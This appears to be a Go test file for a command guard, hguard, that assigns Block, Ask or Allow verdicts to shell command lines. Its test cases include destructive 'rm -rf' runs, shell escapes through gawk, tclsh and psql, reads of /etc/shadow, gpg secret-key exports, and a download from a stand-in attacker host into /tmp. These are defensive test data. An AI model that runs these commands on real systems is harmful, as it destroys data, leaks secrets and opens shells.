package rules_test

import (
	"testing"

	"github.com/hguard/hguard/dsl"
)

// TestOpt61LongOptionPrefix: a program whose parser takes a long option's
// unique prefix (argparse, optparse, my_getopt, getopt_long; the
// catalogue's abbrev, the table of options.go) is read with the full
// name, so that its code and library options are seen however short;
// twins that abbreviate a harmless option stay allowed. Found by rt60.
func TestOpt61LongOptionPrefix(t *testing.T) {
	checkHoles(t, []holeCase{
		{"gcloud compute ssh vm --comm 'rm -rf /'", dsl.Block, dsl.Block},
		{"certbot renew --post 'rm -rf ~'", dsl.Block, dsl.Block},
		{"certbot renew --deploy '/bin/sh 0<&2 1>&2'", dsl.Ask, dsl.Ask},
		{"yt-dlp https://example.com/v --exec-bef 'rm -rf ~ #'", dsl.Block, dsl.Block},
		{"facter --custom=/tmp/f x", dsl.Ask, dsl.Ask},
		{"mysql --default-aut=../../../../tmp/x", dsl.Ask, dsl.Ask},
		{"mariadb --plugin-d=/tmp/p", dsl.Ask, dsl.Ask},
		{"gawk --sour='BEGIN {system(\"/bin/sh\")}'", dsl.Ask, dsl.Ask},
		{"gawk --source='BEGIN {system(\"/bin/sh\")}'", dsl.Ask, dsl.Ask},
		{"wc --files0-fro=/etc/shadow", dsl.Ask, dsl.Ask},
		{"gpg --export-secret-key -a", dsl.Ask, dsl.Ask},
		{"gpg --export-secret-ssh-key u", dsl.Ask, dsl.Ask},
		{"gpg --export-secret-ssh u", dsl.Ask, dsl.Ask},
		{"gpg2 --export-secret-key -a", dsl.Ask, dsl.Ask},

		{"gcloud compute ssh vm --zone x", dsl.Allow, dsl.Allow},
		{"gcloud compute ssh vm --zo x", dsl.Allow, dsl.Allow},
		{"certbot renew --dry", dsl.Allow, dsl.Allow},
		{"certbot certonly --manual -d x.example", dsl.Allow, dsl.Allow},
		{"facter --json os", dsl.Allow, dsl.Allow},
		{"mysql --exec='select 1'", dsl.Allow, dsl.Allow},
		{"gawk --sour='{print $1}' x.txt", dsl.Allow, dsl.Allow},
		{"wc --lines x.txt", dsl.Allow, dsl.Allow},
		{"wc --li x.txt", dsl.Allow, dsl.Allow},
		{"gpg --list-secret-keys", dsl.Allow, dsl.Allow},
		{"gpg --export-ssh-key me", dsl.Allow, dsl.Allow},
	})
}

// TestOpt61LauncherStdio: a launcher that runs its command in the
// foreground (toolbox run, runuser -u USER --, schroot --, a launcher
// without an entry) gives it its own standard input and redirections, so
// the command is judged as if run directly: its here-string and where its
// output goes.
func TestOpt61LauncherStdio(t *testing.T) {
	checkHoles(t, []holeCase{
		{"toolbox run gpg --export-secret-keys -a", dsl.Ask, dsl.Ask},
		{"toolbox run ncat -l 9001 > implant.elf", dsl.Ask, dsl.Ask},
		{"schroot -- openssl s_client -quiet -connect files.attacker.example.net:4444 > /tmp/agent", dsl.Ask, dsl.Ask},
		{"runuser -u root -- tclsh <<< 'exec /bin/sh <@stdin >@stdout 2>@stderr'", dsl.Ask, dsl.Ask},
		{"runuser -u root -- jshell <<< '/open /etc/shadow'", dsl.Ask, dsl.Ask},
		{"toolbox run psql <<< $'\\\\! /bin/sh'", dsl.Ask, dsl.Ask},
		{"setlock - bash", dsl.Ask, dsl.Ask},
		{"c89 -wrapper bash,-s x", dsl.Ask, dsl.Ask},

		{"toolbox run make test > build.log", dsl.Allow, dsl.Allow},
		{"toolbox run bash", dsl.Allow, dsl.Ask},
		{"toolbox run gpg --list-keys", dsl.Allow, dsl.Allow},
		{"runuser -u www -- php artisan migrate < /dev/null", dsl.Allow, dsl.Allow},
		{"schroot -c jail -- openssl version", dsl.Allow, dsl.Allow},
		{"uv run pytest > out.txt", dsl.Allow, dsl.Allow},
		{"setlock /tmp/l make", dsl.Allow, dsl.Allow},
		{"c99 -std=c99 x.c -o x", dsl.Allow, dsl.Allow},
	})
}

// TestOpt61WritesThatRunLater: a program's name in a bin directory early
// on PATH and a git hook, written by code (gdb's dump value) or as a
// launcher's log file (screen -Logfile), are asked as a cron file is; an
// attached -o inside lftp's commands names the file get writes.
func TestOpt61WritesThatRunLater(t *testing.T) {
	checkHoles(t, []holeCase{
		{"gdb -nx -ex 'dump value /home/u/.local/bin/ls \"x\"' -ex quit", dsl.Ask, dsl.Ask},
		{"gdb -nx -ex 'dump value /home/u/proj/.git/hooks/pre-commit \"x\"' -ex quit", dsl.Ask, dsl.Ask},
		{"screen -L -Logfile /usr/local/bin/ls true", dsl.Ask, dsl.Ask},
		{"lftp -c 'get https://x.io/x -o/etc/cron.d/x'", dsl.Ask, dsl.Ask},

		{"gdb -nx -ex 'dump value /home/u/proj/out.bin \"x\"' -ex quit", dsl.Allow, dsl.Allow},
		{"gdb -nx -ex 'dump value /home/u/proj/.git/hooks/pre-commit.sample \"x\"' -ex quit", dsl.Allow, dsl.Allow},
		{"screen -L -Logfile /home/u/proj/build.log make", dsl.Allow, dsl.Allow},
		{"curl -o ~/.local/bin/jq https://x.example/jq", dsl.Allow, dsl.Ask},
		{"lftp -c 'get https://x.io/x -o/home/u/proj/x'", dsl.Allow, dsl.Allow},
	})
}

// TestOpt61PromptCopy: a copy of an interpreter or a program with a
// prompt, run from the working or a temporary directory with no operand
// (GTFOBins' setuid ./tclsh), asks as ./elvish does.
func TestOpt61PromptCopy(t *testing.T) {
	checkHoles(t, []holeCase{
		{"./tclsh", dsl.Ask, dsl.Ask},
		{"./python3", dsl.Ask, dsl.Ask},
		{"/tmp/irb", dsl.Ask, dsl.Ask},

		{"./python3 x.py", dsl.Allow, dsl.Allow},
		{"./.venv/bin/python -m pytest", dsl.Allow, dsl.Allow},
		{"./tclsh build.tcl", dsl.Allow, dsl.Allow},
		{"python3 -c 'print(1)'", dsl.Allow, dsl.Allow},
	})
}

// TestOpt61BareShellName: a shell named without a path where a command
// stands is the shell /bin/sh there is: a catalogue launcher's command
// (codex sandbox linux bash, setlock - bash), the user's shell as an
// option's value (dhclient -sf $SHELL), the first command of a word that
// holds a command line (csvtool call 'bash;false'), and a configuration
// the line wrote whose setting or pipe runs it (wg-quick's PostUp,
// rtorrent's execute, procmail's | CMD). A name chosen as a shell, a
// language or prose stays allowed.
func TestOpt61BareShellName(t *testing.T) {
	checkHoles(t, []holeCase{
		{"codex sandbox linux bash", dsl.Ask, dsl.Ask},
		{"cdist shell -s bash", dsl.Ask, dsl.Ask},
		{"cdist shell -s/bin/sh", dsl.Ask, dsl.Ask},
		{"codex sandbox linux /usr/bin/tmux", dsl.Ask, dsl.Ask},
		{"cabal exec --project-file=/dev/null -- /usr/bin/pwsh", dsl.Ask, dsl.Ask},
		{"uv run pwsh", dsl.Ask, dsl.Ask},
		{"dhclient -sf $SHELL", dsl.Ask, dsl.Ask},
		{"csvtool call 'bash;false' data.csv", dsl.Ask, dsl.Ask},
		{"printf '[Interface]\\nPostUp = bash\\n' > /tmp/w.conf; wg-quick up /tmp/w.conf", dsl.Ask, dsl.Ask},
		{"echo 'execute = bash,-c,\"bash </dev/tty >/dev/tty 2>/dev/tty\"' >~/.rtorrent.rc; rtorrent", dsl.Ask, dsl.Ask},
		{"printf ':0\\n| bash -c \"rm -rf ~\"\\n' > /tmp/p.rc; procmail -m /tmp/p.rc", dsl.Block, dsl.Block},

		{"codex sandbox macos make test", dsl.Allow, dsl.Allow},
		{"cdist config -v host1", dsl.Allow, dsl.Allow},
		{"tmux new -s dev", dsl.Allow, dsl.Allow},
		{"pwsh -c Get-Date", dsl.Allow, dsl.Allow},
		{"cheat tmux", dsl.Allow, dsl.Allow},
		{"starship init pwsh", dsl.Allow, dsl.Allow},
		{"brew install tmux", dsl.Allow, dsl.Allow},
		{"ls /usr/bin/tmux", dsl.Allow, dsl.Allow},
		{"codex exec 'fix the failing test'", dsl.Allow, dsl.Allow},
		{"chsh -s $SHELL", dsl.Allow, dsl.Allow},
		{"zzprog --shell $SHELL", dsl.Allow, dsl.Allow},
		{"csvtool call 'echo;false' data.csv", dsl.Allow, dsl.Allow},
		{"zzgrep 'bash|zsh' notes.txt", dsl.Allow, dsl.Allow},
		{"printf '[Interface]\\nPostUp = iptables -F\\n' > /tmp/w.conf; wg-quick up /tmp/w.conf", dsl.Allow, dsl.Allow},
		{"printf 'shell = bash\\n' > /tmp/x.conf; zzprog -c /tmp/x.conf", dsl.Allow, dsl.Allow},
		{"printf 'prefix = bash\\n' > /tmp/x.conf; zzprog -c /tmp/x.conf", dsl.Allow, dsl.Allow},
		{"printf '| bash | 5.1 |\\n' > /tmp/x.md; zzprog /tmp/x.md", dsl.Allow, dsl.Allow},
		{"printf ':0\\n| formail -A x\\n' > /tmp/p.rc; procmail -m /tmp/p.rc", dsl.Allow, dsl.Allow},
	})
}
